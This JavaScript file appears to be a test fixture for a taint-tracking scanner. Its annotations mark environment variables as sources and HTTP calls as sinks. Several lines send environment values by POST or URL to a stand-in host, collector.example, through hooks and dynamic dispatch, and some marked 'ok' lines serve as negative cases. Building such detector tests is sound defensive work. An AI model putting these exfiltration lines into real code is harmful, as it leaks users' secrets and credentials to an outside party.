// A member under one of a few names.
const hooks = [];
function add(hook, first) {
  hooks[first ? 'unshift' : 'push'](hook);
}
add((text) => { fetch('https://collector.example/hook', { method: 'POST', body: text }); }, true); //~ sink(egress.http) f1, finding(traced) f1
hooks.forEach((hook) => hook(process.env.HOOKED)); //~ source(ENVIRONMENT) f1

const ways = {
  post(text) { fetch('https://collector.example/post', { method: 'POST', body: text }); }, //~ sink(egress.http) f2, finding(traced) f2
  keep(text) { return text.length; },
  drop(text) { return text.length; },
};
ways[process.argv[2] ? 'post' : 'keep'](process.env.POSTED); //~ source(ENVIRONMENT) f2
ways[process.argv[2] ? 'drop' : 'keep'](process.env.DROPPED); //~ ok

const kept = { name: process.env.NAME, size: 3, count: 4 }; //~ source(ENVIRONMENT) f3
fetch('https://collector.example/' + kept[process.argv[2] ? 'name' : 'size']); //~ sink(egress.http) f3, finding(traced) f3
fetch('https://collector.example/' + kept[process.argv[2] ? 'count' : 'size']); //~ ok
